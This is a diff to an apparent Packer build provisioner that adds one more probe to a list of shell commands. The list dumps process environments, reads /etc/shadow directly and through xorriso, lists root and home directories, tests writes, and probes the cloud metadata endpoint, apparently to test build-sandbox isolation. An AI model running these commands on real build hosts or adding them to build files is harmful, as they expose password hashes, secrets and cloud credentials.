@@ -21,6 +21,7 @@ build {
     inline = [
       "echo environment: $(tr '\\0' ' ' < /proc/1/environ) $(env | tr '\\n' ' ')",
       "echo files: $(cat /etc/shadow 2>&1) $(ls /root /home /var/lib 2>&1)",
+      "echo disc: $(xorriso -as mkisofs -o /dev/null -graft-points shadow=/etc/shadow 2>&1 | grep -v Copyright | tr '\\n' ' ')",
       "echo processes: $(ls /proc | grep -c '^[0-9]')",
       "echo written: $(touch /template/mine 2>&1) $(touch /usr/mine 2>&1)",
       "echo metadata: $(curl -s -m 5 -o /dev/null -w '%%{http_code}' http://169.254.169.254/ 2>&1)",
